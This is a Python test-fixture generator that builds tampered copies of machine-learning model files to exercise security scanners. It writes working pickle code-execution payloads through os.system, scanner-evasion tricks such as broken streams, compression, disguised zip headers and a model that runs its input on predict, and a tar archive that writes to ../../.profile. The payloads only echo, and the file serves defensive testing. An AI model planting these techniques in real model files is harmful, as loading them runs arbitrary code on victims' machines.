"""Write the hostile twin of the project: attacks on its files that were seen in the wild, with payloads that only echo (its code: ``sabotage.py``).

No file made here is ever loaded. Each function names the incident or advisory that it follows.
"""

from __future__ import annotations

import io
import lzma
import os
import pickle
import pickletools
import shutil
import struct
import tarfile
import zipfile
from pathlib import Path

import joblib
import numpy as np
from build import CLEAN, HERE
from sabotage import sabotage
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

HOSTILE = HERE / "build" / "hostile"
COMMAND = "echo this would have been your machine"


class Payload:
    """Pickles as a call of ``os.system``."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Make the unpickler call it."""
        return os.system, (COMMAND,)  # aisecops: ignore[malicious-code] makes the hostile twin; its command only echoes


def tamper(target: Path = HOSTILE) -> None:
    """Copy the clean project to ``target`` and tamper with its models."""
    shutil.rmtree(target, ignore_errors=True)
    shutil.copytree(CLEAN, target)
    models = target / "models"
    honest = (models / "logistic.pkl").read_bytes()
    payload_before_model(models / "logistic.pkl", honest)
    broken_stream(models / "logistic-protocol-0.pkl", honest)
    compressed_payload(models / "forest-compressed.joblib")
    stored_callable(models / "forest.joblib")
    object_array(models / "reference.npy")
    two_faced_zip(models / "adapter.pt")
    escaping_archive(models / "release-1.0.tar.gz", honest)
    text_file(models / "labels.txt")
    sabotage(target)


def call_then_pop(protocol: int) -> bytes:
    """The call without STOP, its result dropped: any stream can follow. ``optimize`` leaves out memo entries, which would shift those of what follows."""
    return pickletools.optimize(pickle.dumps(Payload(), protocol=protocol))[:-1] + b"0"


def payload_before_model(path: Path, honest: bytes) -> None:
    """A call first, then the honest model: the load returns what the victim expects."""
    path.write_bytes(call_then_pop(2) + honest)


def broken_stream(path: Path, honest: bytes) -> None:
    """A call, then a stream that breaks: scanners that give up on broken files say nothing (nullifAI, 2025)."""
    path.write_bytes(call_then_pop(0) + honest[: len(honest) // 2])


def compressed_payload(path: Path) -> None:
    """The payload inside a compressed joblib file, where scanners that do not unpack see noise."""
    path.write_bytes(lzma.compress(pickle.dumps([Payload(), np.arange(10)])))


def stored_callable(path: Path) -> None:
    """No call at all while loading: ``predict`` runs the command on the input (modelscan issue 330 is of this family)."""
    joblib.dump(make_pipeline(FunctionTransformer(os.system), LogisticRegression()), path)


def object_array(path: Path) -> None:
    """An array of objects: ``numpy.load(..., allow_pickle=True)`` unpickles it."""
    array = np.empty(1, dtype=object)
    array[0] = Payload()
    np.save(path, array, allow_pickle=True)


def two_faced_zip(path: Path) -> None:
    """A PyTorch-style zip whose local header hides the pickle under another name (CVE-2025-1944)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("adapter/data.pkl", pickle.dumps({"weights": Payload()}, protocol=2))
        archive.writestr("adapter/version", "3\n")
    data = bytearray(buffer.getvalue())
    name = struct.unpack_from("<H", data, 26)[0]
    data[30 : 30 + name] = b"adapter/data.txt"
    path.write_bytes(data)


def escaping_archive(path: Path, honest: bytes) -> None:
    """A member that leaves the folder it is unpacked to (CVE-2007-4559)."""
    with tarfile.open(path, "w:gz") as archive:
        for name, content in (("credit-1.0/model.pkl", honest), ("../../.profile", COMMAND.encode())):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))


def text_file(path: Path) -> None:
    """A pickle of protocol 0 is text; the name says the same."""
    path.write_bytes(pickle.dumps(Payload(), protocol=0))


if __name__ == "__main__":
    tamper()
